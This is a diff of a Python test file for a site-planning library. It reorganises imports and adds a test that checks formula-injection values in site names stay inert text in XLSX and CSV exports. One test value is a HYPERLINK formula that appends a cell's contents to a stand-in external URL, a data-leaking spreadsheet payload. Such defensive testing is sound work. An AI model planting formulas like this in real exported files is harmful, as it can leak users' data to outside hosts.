@@ -12,13 +12,13 @@ import openpyxl
 import pytest
 
 from sharpeyes._errors import InputError
-from sharpeyes.coverage.planning import (
+from sharpeyes.model.crs import wgs84_to_gcj02
+from sharpeyes.planning.io import (
     candidates_from_file,
     demand_from_file,
-    plan_points,
     write_plan,
 )
-from sharpeyes.model.crs import wgs84_to_gcj02
+from sharpeyes.planning.plans import plan_points
 
 # Tieling-ish coordinates. One degree of longitude at 42.3°N is about 82.4 km, so 0.001° ≈ 82 m.
 LON0, LAT0 = 123.84, 42.29
@@ -219,3 +219,24 @@ def test_cost_budget_plain_instance(files: tuple[Path, Path], tmp_path: Path) ->
     assert doc["selected"] == ["B", "C"]
     assert doc["covered_weight"] == 5.0
     assert doc["solver"]["cost"] == 4.0
+
+
+def test_formula_in_a_site_name_stays_text(files: tuple[Path, Path], tmp_path: Path) -> None:
+    demand, _ = files
+    cands = _write(
+        tmp_path / "named.csv",
+        "id,lon,lat,name\n"
+        f'A,{LON0 + 0.0002},{LAT0},"=HYPERLINK(""http://x.example/""&A2,""click"")"\n'
+        f"B,{LON0 + 0.01},{LAT0 + 0.0101},@SUM(A1:A9)\n",
+    )
+    result = plan_points(
+        demand_from_file(demand), candidates_from_file(cands), budget=2, radius_m=100
+    )
+    book = openpyxl.load_workbook(write_plan(result, tmp_path / "plan.xlsx")["xlsx"])
+    sheet = book["规划点位"]
+    header = [c.value for c in sheet[1]]
+    names = [row[header.index("点位名称")] for row in sheet.iter_rows(min_row=2)]
+    assert [c.value for c in names] == ['=HYPERLINK("http://x.example/"&A2,"click")', "@SUM(A1:A9)"]
+    assert all(c.data_type == "s" for c in names)
+    text = Path(write_plan(result, tmp_path / "plan.csv")["csv"]).read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK(" in text and "'@SUM(A1:A9)" in text
